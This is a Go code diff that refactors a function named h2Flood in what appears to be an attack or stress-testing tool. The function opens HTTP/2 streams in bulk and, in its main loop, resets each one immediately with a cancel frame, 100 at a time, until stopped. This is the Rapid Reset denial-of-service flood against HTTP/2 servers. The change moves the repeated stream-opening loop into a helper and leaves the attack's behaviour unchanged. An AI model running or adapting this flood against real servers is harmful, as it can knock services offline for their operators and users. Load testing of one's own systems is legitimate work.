@@ -293,6 +293,17 @@ func h2Flood(ctx context.Context, c net.Conn, counts *attackCounts) error {
 	maxStreams := make(chan uint32, 1)
 	go func() { ended <- h2Read(fr, counts, maxStreams) }()
 	id := uint32(1)
+	// open opens n streams, resetting each at once if reset, in one write.
+	open := func(n uint32, reset bool) error {
+		for range n {
+			_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h2Block, EndStream: true, EndHeaders: true})
+			if reset {
+				_ = fr.WriteRSTStream(id, http2.ErrCodeCancel)
+			}
+			id += 2
+		}
+		return bw.Flush()
+	}
 	if stall {
 		var limit uint32 = 100
 		select {
@@ -301,11 +312,7 @@ func h2Flood(ctx context.Context, c net.Conn, counts *attackCounts) error {
 			return err
 		case <-time.After(5 * time.Second):
 		}
-		for range 2 * limit {
-			_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h2Block, EndStream: true, EndHeaders: true})
-			id += 2
-		}
-		if err := bw.Flush(); err != nil {
+		if err := open(2*limit, false); err != nil {
 			return err
 		}
 		select {
@@ -316,12 +323,7 @@ func h2Flood(ctx context.Context, c net.Conn, counts *attackCounts) error {
 		}
 	}
 	for ctx.Err() == nil {
-		for range 100 {
-			_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h2Block, EndStream: true, EndHeaders: true})
-			_ = fr.WriteRSTStream(id, http2.ErrCodeCancel)
-			id += 2
-		}
-		if err := bw.Flush(); err != nil {
+		if err := open(100, true); err != nil {
 			return err
 		}
 		select {
